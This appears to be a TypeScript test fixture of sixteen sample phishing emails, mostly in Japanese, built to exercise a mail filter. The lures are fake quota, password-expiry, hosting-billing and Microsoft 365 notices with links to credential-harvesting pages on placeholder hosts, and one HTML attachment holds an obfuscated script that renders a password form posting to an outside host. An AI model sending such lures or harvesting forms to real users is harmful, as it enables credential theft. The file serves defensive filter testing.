import { modulesOf } from '../../../src/pictures/testing.ts';
import { buildMail, type Mail } from '../build-mail.ts';
import { button, letter, link, note } from '../letter.ts';

/** A code for a camera, drawn with the cells of a table. */
const code = (await modulesOf('https://mfa-renew.qrv71.example/s/8842'))
  .map(
    (row) =>
      `<tr>${row.map((dark) => `<td width="5" height="5" bgcolor="${dark ? '#000' : '#fff'}"></td>`).join('')}</tr>`,
  )
  .join('');

/** What is after the mailboxes and servers of administrators. */
export const webmailAndHosting: Mail[] = [
  {
    name: 'brandless: mailbox full, hijacked account of a shop, qmail',
    receiver: 'qmail' as const,
    from: 'メール管理者 <info@hanaten.example.jp>',
    auth: { dkim: '' },
    client: { ip: '198.51.100.60', ptr: 'sv60.hosting.example.net' },
    earlier: [
      'from unknown (HELO node7) (info@hanaten.example.jp@203.0.113.61)\r\n  by sv60.hosting.example.net with ESMTPA',
    ],
    subject: 'メールボックスの容量が上限に達しました',
    html: letter([
      'info@example.co.jp 様',
      'お使いのメールボックスは割り当て容量の98.7%に達しています。まもなく新しいメールの送受信ができなくなります。',
      button('https://ipfs-gw.bmq9.example/mail/#info@example.co.jp', '容量を無料で増やす'),
      '24時間以内に対応されない場合、受信済みのメールは削除されます。',
    ]),
  },
  {
    name: 'own domain in the display name, from a rented server',
    receiver: 'postfix' as const,
    from: 'example.co.jp メールサーバー管理者 <no-reply@rtw55.example>',
    auth: { spf: 'pass', dkim: 'rtw55.example', dmarc: 'pass' },
    client: { ip: '203.0.113.62', ptr: 'rtw55.example' },
    subject: '[example.co.jp] メールサーバー管理者より:未配信メールが7件あります',
    html: letter([
      'info@example.co.jp 宛の受信メール7件が、サーバーエラーのため保留されています。',
      `<table border="1" cellpadding="4"><tr><th>差出人</th><th>件名</th></tr><tr><td>keiri@*****.co.jp</td><td>請求書送付の件</td></tr><tr><td>info@*****.jp</td><td>Re: 発注書</td></tr></table>`,
      button(
        'https://webmail-example-co-jp.rtw55.example/release?u=info@example.co.jp',
        '保留メールを受信トレイに移動',
      ),
      '48時間を過ぎた保留メールは自動的に削除されます。',
    ]),
  },
  {
    name: 'own domain in the display name, a code to scan drawn with a table',
    receiver: 'postfix' as const,
    from: 'example.co.jp 情報システム部 <it@qrv71.example>',
    auth: { spf: 'pass', dkim: 'qrv71.example', dmarc: 'pass' },
    client: { ip: '203.0.113.71', ptr: 'qrv71.example' },
    subject: '【重要】多要素認証の更新(info@example.co.jp)',
    html: letter([
      'info@example.co.jp 様',
      'お使いのメールアカウントのパスワードと多要素認証の有効期限が本日切れます。',
      'スマートフォンで下のコードを読み取り、パスワードを再認証してください。',
      `<table cellspacing="0" cellpadding="0">${code}</table>`,
      '24時間以内に完了しない場合、アカウントは停止されます。',
    ]),
  },
  {
    name: 'own domain forged as sender, password runs out',
    receiver: 'postfix' as const,
    from: 'IT Support <support@example.co.jp>',
    envelope: 'support@example.co.jp',
    auth: { spf: 'fail', dkim: '', dmarc: 'fail' },
    client: { ip: '203.0.113.63', ptr: '' },
    subject: 'パスワードの有効期限が本日切れます - info@example.co.jp',
    html: note([
      'info@example.co.jp 様',
      'お使いのメールアカウントのパスワードは本日で有効期限が切れます。',
      '現在のパスワードを引き続き使用するには、以下をクリックしてください。',
      link('https://storage.googleapis.com/kw-keep-7/index.html#info@example.co.jp', '同じパスワードを維持する'),
      'example.co.jp サポート',
    ]),
  },
  {
    name: 'own domain forged as sender, no results, qmail',
    receiver: 'qmail' as const,
    from: 'example.co.jp <postmaster@example.co.jp>',
    envelope: 'bounce@pqx8.example',
    auth: { dkim: '' },
    client: { ip: '203.0.113.64', ptr: '', helo: 'pqx8.example' },
    subject: '【緊急】メールアカウント閉鎖の申請を受け付けました',
    html: letter([
      'info@example.co.jp の閉鎖申請を受け付けました。',
      'この申請をキャンセルするには、12時間以内にログインして確認してください。',
      button('http://pqx8.example/cgi/webmail.php?e=info@example.co.jp', '申請をキャンセルする', '#c00'),
    ]),
  },
  {
    name: 'cPanel quota in English',
    receiver: 'sendmail' as const,
    from: 'cPanel <cpanel@server.okz2.example>',
    auth: { spf: 'none', dkim: '', dmarc: 'none' },
    client: { ip: '203.0.113.65', ptr: 'server.okz2.example' },
    subject: '[example.co.jp] Disk usage warning: info@example.co.jp (98.55%)',
    html: letter(
      [
        'The email account <b>info@example.co.jp</b> is at 98.55% of its quota. Incoming messages are being rejected.',
        button('https://cpanel-2096.okz2.example/login/?user=info@example.co.jp', 'Upgrade quota now', '#ff6c2c'),
        'Failure to act within 24 hours will result in deactivation of your mailbox.',
      ],
      { font: 'Helvetica', head: 'cPanel', foot: 'Copyright cPanel, L.L.C.' },
    ),
  },
  {
    name: 'Active! mail, new version',
    receiver: 'postfix' as const,
    from: 'Active!mail <admin@city-net.example>',
    auth: { spf: 'pass', dkim: '', dmarc: 'none' },
    client: { ip: '203.0.113.66', ptr: 'city-net.example' },
    charset: 'iso-2022-jp' as const,
    subject: '【Active! mail】バージョンアップに伴う再ログインのお願い',
    text: `Active! mail ご利用者 各位

システムのバージョンアップに伴い、すべての利用者に再ログインをお願いしております。
下記より、メールアドレスとパスワードを入力してください。

http://activemail-up.city-net.example/am_bin/amlogin

本日17時までに再ログインされない場合、メールの利用ができなくなります。
`,
  },
  {
    name: 'server moves, passwords wanted by reply',
    receiver: 'gmail' as const,
    from: 'サーバー管理チーム <server.kanri.example@outlook.jp>',
    to: 'admin@example.com',
    auth: { dkim: 'outlook.jp' },
    client: { ip: '192.0.2.67', ptr: 'mail-japan67.outbound.protection.outlook.com' },
    headers: ['Reply-To: ikou-uketsuke@tmm.example'],
    subject: 'サーバー移行作業に伴うアカウント情報確認のお願い',
    text: `ご利用者様

サーバーの移行作業を行っております。移行対象のアカウントを確認するため、
以下の情報を本メールへの返信にてお知らせください。

・メールアドレス
・現在のパスワード
・コントロールパネルのID、パスワード

3日以内にご返信がない場合、移行の対象外となり、データは失われます。
`,
  },
  {
    name: 'XServer: domain runs out, lookalike domain passes',
    receiver: 'postfix' as const,
    from: 'エックスサーバー <support@xserver-renew.example>',
    client: { ip: '203.0.113.68', ptr: 'mail.xserver-renew.example' },
    subject: '【Xserver】■重要■ドメインの更新費用のお支払いが確認できません',
    text: `example.co.jp ご契約者様

平素はエックスサーバーをご利用いただき誠にありがとうございます。
ドメインの更新費用のお支払いを確認できませんでした。本日中にお手続きいただけない場合、
サーバーとメールを停止いたします。

お支払い手続き(クレジットカード)
https://secure.xserver-renew.example/xapanel/login/
`,
  },
  {
    name: 'Sakura Internet, hijacked Japanese hosting account passes SPF',
    receiver: 'sendmail' as const,
    from: 'さくらインターネット <yoyaku@onsen.example.jp>',
    auth: { dkim: '' },
    client: { ip: '198.51.100.69', ptr: 'www669.hosting.example.net' },
    earlier: [
      'from 203.0.113.70 (unknown [203.0.113.70]) (authenticated as yoyaku@onsen.example.jp)\r\n\tby www669.hosting.example.net (Postfix) with ESMTPA id 99AA88BB77',
    ],
    subject: '[さくらインターネット]ご請求に関する大切なお知らせ(サービス停止予告)',
    html: letter([
      'さくらインターネットをご利用のお客様',
      'クレジットカード決済に失敗したため、サービスの停止を予定しております。',
      link('https://secure-sakura.kami-kobo.example/auth/login', 'https://secure.sakura.ad.jp/auth/login'),
      '会員IDとパスワードでログインし、24時間以内にお支払い情報を更新してください。',
    ]),
  },
  {
    name: 'Onamae.com forged',
    receiver: 'gmail' as const,
    from: 'お名前.com <admin@onamae.com>',
    to: 'admin@example.com',
    envelope: 'root@f0f0.example',
    auth: { spf: 'pass', dkim: '', dmarc: 'fail' },
    client: { ip: '203.0.113.71', ptr: 'f0f0.example' },
    subject: '【お名前.com】ドメイン example.com 利用制限設定予告',
    text: `ドメイン登録者情報の確認が行われていないため、example.com の利用制限を設定いたします。
制限を回避するには、本日中に下記より認証を完了してください。

https://navi-onamae.f0f0.example/verify?d=example.com
`,
  },
  {
    name: 'Microsoft 365 quarantine, English to a Japanese administrator',
    receiver: 'microsoft' as const,
    from: 'Microsoft 365 Message Center <quarantine@ms-notify.example>',
    to: 'admin@example.co.jp',
    client: { ip: '203.0.113.72', ptr: 'ms-notify.example' },
    subject: 'You have 5 messages in quarantine - action required',
    html: letter(
      [
        'Hello admin@example.co.jp,',
        '5 messages addressed to you are being held and will be deleted in 24 hours.',
        button(
          'https://login-microsoftonline.ms-notify.example/?login_hint=admin@example.co.jp',
          'Review messages',
          '#0078d4',
        ),
        'Microsoft Corporation, One Microsoft Way, Redmond',
      ],
      { font: "'Segoe UI'" },
    ),
  },
  {
    name: 'OneDrive share by a hijacked customer',
    receiver: 'microsoft' as const,
    from: '酒井 弘 <sakai@butsuryu.example.jp>',
    client: { ip: '198.51.100.73', ptr: 'mail.butsuryu.example.jp' },
    subject: '酒井 弘 さんがOneDriveで「御見積書2026.pdf」を共有しました',
    html: letter([
      '酒井 弘 さんがファイルを共有しました',
      '御見積書2026.pdf',
      button('https://onedrive-view.pq3.example/doc/?e=info@example.co.jp', 'ドキュメントを開く', '#0078d4'),
      '閲覧するには、受信したメールアドレスとパスワードでサインインしてください。リンクは本日24時に失効します。',
    ]),
  },
  {
    name: 'webmail page as an HTML attachment, voice message',
    receiver: 'gmail' as const,
    from: 'VoiceMail <vm@call-center.example>',
    to: 'sales@example.com',
    auth: { spf: 'softfail', dkim: '', dmarc: 'none' },
    client: { ip: '203.0.113.74', ptr: '' },
    subject: '新しい音声メッセージ(00:42)example.com 宛',
    text: '新しい音声メッセージが1件あります。添付ファイルを開いて再生してください。\n',
    attachments: [
      {
        filename: 'Voice_00042.htm',
        type: 'text/html',
        content:
          "<script>document.write(atob('PGZvcm0gYWN0aW9uPSJodHRwczovL2NhbGwtY2VudGVyLmV4YW1wbGUvcCIgbWV0aG9kPSJwb3N0Ij48aW5wdXQgdHlwZT0icGFzc3dvcmQiIG5hbWU9InAiPjwvZm9ybT4='))</script>",
      },
    ],
  },
  {
    name: 'webmail fraud through a mailing list',
    receiver: 'postfix' as const,
    from: 'システム管理者 via soumu-ml <soumu-ml@lists.example.org>',
    to: 'soumu-ml@lists.example.org',
    deliveredTo: 'info@example.co.jp',
    envelope: 'soumu-ml-bounces@lists.example.org',
    client: { ip: '203.0.113.30', ptr: 'lists.example.org' },
    headers: ['Reply-To: admin@upd8.example', 'List-Id: <soumu-ml.lists.example.org>', 'Precedence: list'],
    subject: '[soumu-ml:0088] 【至急】Webメールのアカウント確認',
    text: `Webメールをご利用の皆様

不正アクセス防止のため、本日中にアカウントの確認を行ってください。
確認されないアカウントは停止されます。
https://webmail-kakunin.upd8.example/

ユーザー名、パスワードを正しく入力してください。
`,
  },
  {
    name: 'mailbox fraud, headers cut',
    receiver: 'cut' as const,
    from: 'Mail Delivery System <postmaster@uyt3.example>',
    subject: '受信メールを配信できませんでした (5件)',
    html: letter([
      'info@example.co.jp 様',
      'メールボックスの同期エラーにより、受信メール5件を配信できませんでした。',
      button('https://sync.uyt3.example/info@example.co.jp', '今すぐ同期する'),
    ]),
  },
  {
    name: 'Zimbra, DMARC passes for a free subdomain, in half Japanese',
    receiver: 'yahoo' as const,
    from: 'Zimbra Webmail <zimbra@mail.univ-x.example>',
    to: 'hanako@example.com',
    client: { ip: '203.0.113.76', ptr: 'mail.univ-x.example' },
    subject: 'あなたのメールボックスは一時停止されます',
    text: `親愛なるユーザー、

私たちはすべての電子メールアカウントをアップグレードしています。あなたのアカウントをアップグレードするために
ここをクリックしてください: https://zimbra-upgrade-example.weebly.com/

注意: あなたが24時間以内にアップグレードしない場合、あなたのアカウントは永久に閉鎖されます。
`,
  },
].map(buildMail);
